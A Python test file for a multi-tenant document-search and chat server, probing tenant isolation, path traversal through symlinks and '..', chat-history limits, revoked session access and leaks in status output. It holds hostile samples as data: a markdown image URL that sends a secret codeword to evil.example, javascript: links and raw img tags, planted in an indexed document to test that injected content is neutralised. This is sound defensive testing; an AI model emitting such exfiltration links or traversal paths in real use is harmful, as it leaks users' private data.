"""Hostile tenants, round two (issue 61, items 5, 6, 8, 10 and parts of 11): what one key
may read, index, send the model and get back, tried as an attacker would against a live
server. A tenant indexes only its own folders, never the index (every tenant's uploads); a
chat's history is held to the model's context and a huge one refused; a session's turns are
shown only while the key may still read what they drew on; a chat answer carries no image
or script link a document put in the model's mouth; a tenant's status shows no server
paths, host or port; one bad file of an upload costs only itself; a server started with a
relative index folder reports its uploads right.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

pytest.importorskip("fastapi")
markdown_it = pytest.importorskip("markdown_it")

from conftest import LiveServer  # noqa: E402
from sleuth import Index, Settings  # noqa: E402
from sleuth.agent.context import count_messages  # noqa: E402
from sleuth.server.http import create_app  # noqa: E402
from sleuth.service.service import Service  # noqa: E402
from sleuth.testing.fake import FakeLLMServer, reply  # noqa: E402

SALARIES = b"# Salaries\n\nMaria Okafor earns the most. The codeword is marmalade-falcon.\n"
INJECTION = ("![an image](http://evil.example/?q=marmalade-falcon) and "
             "[click here](javascript:alert(1)) and <img src=http://evil.example/x.png>")


def _keys(tmp_path: Path, **tenants: dict[str, Any]) -> Path:
    """A key file: the admin ``k-root`` and ``tenants`` by name."""
    path = tmp_path / "keys.yaml"
    path.write_text(yaml.safe_dump({"root": "k-root", **tenants}))
    return path


class Api:
    """A live server over ``folder`` with a client per key."""

    def __init__(self, folder: Path, settings: Settings) -> None:
        self.service = Service(folder, settings)
        self.live = LiveServer(create_app(self.service))

    def client(self, key: str) -> httpx.Client:
        return httpx.Client(base_url=self.live.url, timeout=60,
                            headers={"Authorization": f"Bearer {key}"})

    def close(self) -> None:
        self.live.close()
        self.service.close()


def _index(folder: Path) -> Path:
    """An index of acme's open roadmap and hr's salaries."""
    docs = folder / "docs"
    docs.mkdir()
    (docs / "roadmap.md").write_text("# Roadmap\n\nAcme launches Zephyrine in May.\n")
    (docs / "salaries.md").write_bytes(SALARIES)
    with Index.open(folder / "idx", settings=Settings.load(chunk={"tokens": 60}),
                    create=True) as index:
        index.add([docs / "roadmap.md"], collection="acme")
        index.add([docs / "salaries.md"], collection="acme", groups=["hr"])
    return folder / "idx"


def _upload(client: httpx.Client, *files: tuple[str, bytes], **form: str) -> httpx.Response:
    return client.post("/v1/documents", files=[("files", f) for f in files], data=form)


# -- 5. document roots are per key; the index is never indexable -----------------------------

def test_a_tenant_indexes_only_its_own_folders(tmp_path: Path) -> None:
    acme, globex = tmp_path / "shared" / "acme", tmp_path / "shared" / "globex"
    acme.mkdir(parents=True)
    globex.mkdir()
    (acme / "plans.md").write_text("# Plans\n\nAcme buys Initech in March.\n")
    (globex / "notes.md").write_text("# Notes\n\nGlobex notes.\n")
    keys = _keys(tmp_path,
                 acme={"key": "k-acme", "collection": "acme", "document_roots": ["shared/acme"]},
                 globex={"key": "k-globex", "collection": "globex",
                         "document_roots": [str(globex)]},
                 initech={"key": "k-initech", "collection": "initech"})
    api = Api(_index(tmp_path), Settings.load(serve={
        "api_keys": str(keys), "document_roots": [str(tmp_path / "shared")]}))
    try:
        with api.client("k-globex") as rival, api.client("k-initech") as rootless, \
                api.client("k-acme") as owner:
            stolen = rival.post("/v1/documents", json={"paths": [str(acme / "plans.md")]})
            assert stolen.status_code == 403, stolen.text
            assert "its document_roots" in stolen.json()["detail"]
            assert rival.post("/v1/documents", json={"paths": [str(acme)]}).status_code == 403
            # serve.document_roots is the admins': a key without roots indexes no path
            refused = rootless.post("/v1/documents", json={"paths": [str(globex)]})
            assert refused.status_code == 403 and "may not index" in refused.json()["detail"]
            own = rival.post("/v1/documents", json={"paths": [str(globex)]})
            assert own.status_code == 200 and own.json()["added_ids"] == ["globex:notes.md"]
            mine = owner.post("/v1/documents", json={"paths": [str(acme)]})  # relative root
            assert mine.status_code == 200 and mine.json()["added_ids"] == ["acme:plans.md"]
            found = rival.post("/v1/tools/keyword_search", json={"keywords": ["Initech"]})
            assert found.json()["data"]["hits"] == []
    finally:
        api.close()


def test_the_index_and_every_tenants_uploads_are_never_indexable(tmp_path: Path) -> None:
    """A root holding the index folder: through it, a key without hr would index hr's
    uploads into its own collection and read them."""
    folder = _index(tmp_path)
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "memo.md").write_text("# Memo\n\nStaff memo.\n")
    (mine / "into-uploads").symlink_to(folder / "uploads")
    keys = _keys(tmp_path, staff={"key": "k-staff", "collection": "acme",
                                  "document_roots": [str(tmp_path)]},
                 hr={"key": "k-hr", "collection": "acme", "groups": ["hr"]})
    api = Api(folder, Settings.load(serve={"api_keys": str(keys)}))
    try:
        with api.client("k-hr") as hr, api.client("k-staff") as staff, \
                api.client("k-root") as root:
            secret = b"# Bonus\n\nThe bonus codeword is saffron-otter.\n"
            assert _upload(hr, ("bonus.md", secret), groups="hr").status_code == 200
            saved = folder / "uploads" / "acme~hr" / "bonus.md"
            assert saved.is_file()
            for path in (tmp_path, folder, folder / "uploads", saved,
                         mine / "into-uploads", mine / "into-uploads" / "acme~hr" / "bonus.md",
                         mine / ".." / "idx" / "sessions"):
                got = staff.post("/v1/documents", json={"paths": [str(path)]})
                assert got.status_code == 403, (path, got.text)
                assert str(folder) not in got.json()["detail"].replace(str(path), "")
            # the folder holding the link is indexed; the link out of it is not followed
            walked = staff.post("/v1/documents", json={"paths": [str(mine)]})
            assert walked.status_code == 200, walked.text
            assert walked.json()["added_ids"] == ["acme:memo.md"]
            assert root.post("/v1/documents",  # an admin neither, with no roots set
                             json={"paths": [str(folder / "uploads")]}).status_code == 403
            hits = staff.post("/v1/tools/keyword_search", json={"keywords": ["saffron"]})
            assert hits.json()["data"]["hits"] == []
    finally:
        api.close()


# -- 6. chat history is held to the model's context ------------------------------------------

def _chat(llm: FakeLLMServer, folder: Path, **agent: Any) -> Api:
    return Api(folder, Settings.load(
        llm={"base_url": llm.base_url, "model": "fake-model", "api_key": "x"},
        serve={"api_keys": {"root": "k-root"}}, agent={"settled_answers": "model", **agent}))


def test_a_megabyte_of_chat_history_is_refused(tmp_path: Path) -> None:
    turns: list[dict[str, str]] = []
    for n in range(10):  # 950 KB of earlier answers, under the body limit
        turns += [{"role": "user", "content": f"Question {n}?"},
                  {"role": "assistant", "content": f"Answer {n}. " + "lorem ipsum " * 7900}]
    body = {"model": "sleuth-direct",
            "messages": [*turns, {"role": "user", "content": "Who earns the most?"}]}
    with FakeLLMServer([reply("Nobody.")] * 2) as llm:
        api = _chat(llm, _index(tmp_path))
        try:
            with api.client("k-root") as client:
                assert 900_000 < len(json.dumps(body)) < 1_000_000
                got = client.post("/v1/chat/completions", json=body)
                assert got.status_code == 413, got.text[:300]
                error = got.json()["error"]
                assert "serve.max_message_chars" in error["message"]
                assert error["param"] == "messages.1.content"
                turns[1]["content"] = "x" * 1_100_000
                assert client.post("/v1/chat/completions", json=body).status_code == 413
        finally:
            api.close()
        assert llm.requests == []  # nothing reached the model


def test_a_long_chat_history_reaches_the_model_trimmed_oldest_first(tmp_path: Path) -> None:
    budget = 400
    turns: list[dict[str, str]] = []
    for n in range(60):
        turns += [{"role": "user", "content": f"Question number {n} about the roadmap?"},
                  {"role": "assistant", "content": f"Answer number {n}: it ships" * 6}]
    with FakeLLMServer([reply("In May.")]) as llm:
        api = _chat(llm, _index(tmp_path), history_tokens=budget)
        try:
            with api.client("k-root") as client:
                got = client.post("/v1/chat/completions", json={
                    "model": "sleuth-direct",
                    "messages": [*turns, {"role": "user", "content": "When does it launch?"}]})
                assert got.status_code == 200, got.text[:300]
        finally:
            api.close()
    (request,) = llm.requests
    sent = request["messages"]
    assert sent[0]["role"] == "system" and sent[-1]["role"] == "user"
    history = sent[1:-1]
    assert 2 <= len(history) < len(turns)
    assert history == turns[-len(history):]  # the newest turns, whole and in order
    assert history[0]["role"] == "user"
    assert count_messages(history) <= budget
    assert "Question number 0 " not in json.dumps(sent)


# -- 8. sessions outlive access: they are read as the key may read now ------------------------

def test_a_session_turn_is_withheld_once_its_group_is_taken_away(tmp_path: Path) -> None:
    folder = _index(tmp_path)
    answer = ("Maria Okafor earns the most; the codeword is marmalade-falcon "
              "[acme~hr:salaries.md#0].")
    with FakeLLMServer([reply(answer), reply("I cannot say.")]) as llm:
        def server(groups: list[str]) -> Api:
            keys = _keys(tmp_path, clerk={"key": "k-clerk", "collection": "acme",
                                          "groups": groups})
            return Api(folder, Settings.load(
                llm={"base_url": llm.base_url, "model": "fake-model", "api_key": "x"},
                serve={"api_keys": str(keys)}, agent={"settled_answers": "model"}))

        api = server(["hr"])
        try:
            with api.client("k-clerk") as clerk:
                asked = clerk.post("/v1/ask", json={"question": "Who earns the most?",
                                                    "agent": "naive-rag", "session": "pay"})
                assert asked.status_code == 200, asked.text
                shown = clerk.get("/v1/sessions/pay").json()
                assert "marmalade-falcon" in shown["turns"][0]["answer"]
        finally:
            api.close()
        api = server([])  # the operator took hr away from the key
        try:
            with api.client("k-clerk") as clerk:
                shown = clerk.get("/v1/sessions/pay")
                assert shown.status_code == 200
                (turn,) = shown.json()["turns"]
                assert turn["withheld"] is True and "no longer read" in turn["answer"]
                assert turn["citations"] == [] and turn["question"] == ""
                listed = clerk.get("/v1/sessions").json()
                assert [s["id"] for s in listed] == ["pay"]
                assert listed[0]["first_question"] == "" and "earns" not in listed[0]["title"]
                follow = clerk.post("/v1/ask", json={"question": "And the codeword?",
                                                     "agent": "naive-rag", "session": "pay"})
                assert follow.status_code == 200, follow.text
                after = clerk.get("/v1/sessions/pay").json()["turns"]
                assert after[0]["withheld"] and not after[1].get("withheld")
                text = json.dumps([shown.json(), listed, after])
                assert "marmalade" not in text and "Okafor" not in text
        finally:
            api.close()
        # the follow-up's request to the model held nothing of the withheld turn
        assert "marmalade" not in json.dumps(llm.requests[-1])
        assert "Okafor" not in json.dumps(llm.requests[-1])


# -- 10. chat answers carry no live images or script links ------------------------------------

def _unsafe(markdown: str, base: str) -> list[str]:
    """What a CommonMark client would render of ``markdown`` that loads or runs by itself:
    images, links of schemes other than http(s) and mailto, raw HTML."""
    md = markdown_it.MarkdownIt("commonmark")
    md.validateLink = lambda url: True
    found = []
    for token in md.parse(markdown):
        if token.type == "html_block":
            found.append(token.content)
        for child in token.children or ():
            href = str(child.attrs.get("href", ""))
            if child.type == "image" and not str(child.attrs["src"]).startswith(base):
                found.append(str(child.attrs["src"]))
            elif child.type == "link_open" and not href.startswith(("http", "mailto:")):
                found.append(href)
            elif child.type == "html_inline":
                found.append(child.content)
    return found


def test_an_injected_image_or_script_link_reaches_no_chat_client(tmp_path: Path) -> None:
    folder = _index(tmp_path)
    with Index.open(folder, settings=Settings.load(chunk={"tokens": 60})) as index:
        (tmp_path / "docs" / "invoice.md").write_text(f"# Invoice\n\nInvoice total. {INJECTION}\n")
        index.add([tmp_path / "docs" / "invoice.md"])
    answer = f"The invoice total is due. {INJECTION} [invoice.md#0]"
    with FakeLLMServer([reply(answer)] * 2) as llm:
        api = _chat(llm, folder)
        try:
            question = {"model": "sleuth-naive-rag",
                        "messages": [{"role": "user", "content": "What is the invoice total?"}]}
            with api.client("k-root") as client:
                whole = client.post("/v1/chat/completions", json=question).json()
                with client.stream("POST", "/v1/chat/completions",
                                   json={**question, "stream": True}) as streamed:
                    events = [json.loads(line[6:]) for line in streamed.iter_lines()
                              if line.startswith("data: {")]
        finally:
            api.close()
    message = whole["choices"][0]["message"]
    deltas = [e["choices"][0]["delta"] for e in events if e.get("choices")]
    content = "".join(d.get("content") or "" for d in deltas)
    reasoning = "".join(d.get("reasoning_content") or "" for d in deltas)
    assert len([d for d in deltas if d.get("content")]) > 3  # it did stream, in pieces
    for text in (message["content"], message.get("reasoning_content", ""), content,
                 reasoning):
        assert _unsafe(text, api.live.url) == [], text
    assert content == message["content"]
    assert "an image" in content and "click here" in content  # the words stay, as text
    assert f"]({api.live.url}/#/passage?doc=invoice.md" in content  # the sources stay links


def test_links_split_anywhere_in_a_stream_come_out_as_a_whole_answer_does() -> None:
    from sleuth.server.markdown import Stream, neutralise

    base = "http://127.0.0.1:8765"
    pieces = ["Text [cite#0]. ", "![a b](http://evil.example/?q=1) ", "[c d](javascript:x) ",
              "[ok](https://ok.example/a) ", "<img\nsrc=x> ", "`code [e](javascript:y)` ",
              "[r]: http://evil.example/r.png\n\n", "![r][r] ", "<javascript:alert(1)> ",
              "[f](<javascript:z>) ", '[g](javascript:t "t)") ', "a < b and c<d. ",
              f"![own]({base}/v1/page-image?doc=a&page=1) ", "\\[h](javascript:w) ",
              "[a `]` b](javascript:q) ", "- item\n\n    ![x](http://evil.example/l)\n",
              "```\n[k](javascript:k)\n```\n", "<div>\n[d](javascript:d)\n</div>\n\n",
              "x ![", "](http://evil.example/split) ", "[a]\n[a]: javascript:late\n"]
    rng = random.Random(61)
    for _ in range(60):
        text = "".join(rng.choice(pieces) for _ in range(7))
        whole = neutralise(text, base)
        assert _unsafe(whole, base) == [], whole
        stream, out, at = Stream(base), [], 0
        while at < len(text):
            step = rng.randint(1, 7)
            out.append(stream.feed(text[at:at + step]))
            at += step
        out.append(stream.flush())
        assert _unsafe("".join(out), base) == [], (text, out)
    assert neutralise("Plain [cite#0] *text*.", base) == "Plain [cite#0] *text*."


# -- 11. smaller faults: status, uploads -------------------------------------------------------

def test_a_tenants_status_shows_no_server_paths_host_or_port(tmp_path: Path) -> None:
    folder = _index(tmp_path)
    keys = _keys(tmp_path, staff={"key": "k-staff", "collection": "acme"})
    api = Api(folder, Settings.load(serve={"api_keys": str(keys), "port": 8931,
                                           "runs": str(tmp_path / "runs")}))
    try:
        with api.client("k-staff") as staff, api.client("k-root") as root:
            status = staff.get("/v1/status")
            admin = root.get("/v1/status").json()
    finally:
        api.close()
    assert status.status_code == 200
    shown = status.json()
    text = json.dumps(shown)
    assert str(tmp_path) not in text and "8931" not in text and "127.0.0.1" not in text
    assert not {"host", "port", "runs", "public_url", "allowed_hosts"} & set(shown["limits"])
    assert "workers" not in shown and "threads" not in shown and "index" not in shown
    assert shown["limits"]["max_query_chars"] == 2000 and shown["documents"] == 1
    assert admin["limits"]["port"] == 8931 and admin["index"] == str(folder)


def test_one_bad_file_of_an_upload_costs_only_itself(tmp_path: Path) -> None:
    keys = _keys(tmp_path, staff={"key": "k-staff", "collection": "acme"})
    folder = _index(tmp_path)
    api = Api(folder, Settings.load(serve={"api_keys": str(keys)}))
    try:
        with api.client("k-staff") as staff:
            got = _upload(staff, ("good.md", b"# Good\n\nThe tide turns at six.\n"),
                          ("bad.json", b'{"not": "a list of records"}'),
                          ("also-good.txt", b"The moon pulls the tide.\n"))
            assert got.status_code == 200, got.text
            status = {f["name"]: f for f in got.json()["files"]}
            assert status["good.md"]["status"] == status["also-good.txt"]["status"] == "indexed"
            assert status["bad.json"]["status"] == "error"
            assert "expected a JSON list" in status["bad.json"]["error"]
            assert str(folder) not in status["bad.json"]["error"]
            assert sorted(got.json()["added_ids"]) == ["acme:also-good.txt", "acme:good.md"]
            alone = _upload(staff, ("bad.json", b'{"not": "a list"}'))
            assert alone.status_code == 400  # nothing indexable at all: refused as before
    finally:
        api.close()
    left = sorted(p.name for p in (folder / "uploads").rglob("*") if p.is_file())
    assert left == ["also-good.txt", "good.md"]


@pytest.fixture()
def relative_index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Api]:
    """A server started in ``tmp_path`` with the index given as ``idx`` (relative)."""
    _index(tmp_path)
    monkeypatch.chdir(tmp_path)
    api = Api(Path("idx"), Settings.load(serve={"api_keys": {"root": "k-root"}}))
    yield api
    api.close()


def test_a_server_on_a_relative_index_reports_its_uploads_right(relative_index: Api,
                                                               tmp_path: Path) -> None:
    with relative_index.client("k-root") as root:
        got = _upload(root, ("tides.md", b"# Tides\n\nThe tide turns at six.\n"),
                      ("scan.pdf", b"%PDF-1.4 not really a pdf"))
    assert got.status_code == 200, got.text
    status = {f["name"]: f for f in got.json()["files"]}
    assert status["tides.md"]["status"] == "indexed" and status["tides.md"]["chunks"] == 1
    assert status["scan.pdf"]["status"] == "error"
    assert "no document could be read" not in status["scan.pdf"]["error"]  # the real reason
    assert (tmp_path / "idx" / "uploads" / "default" / "tides.md").is_file()
    assert not (tmp_path / "idx" / "uploads" / "default" / "scan.pdf").exists()
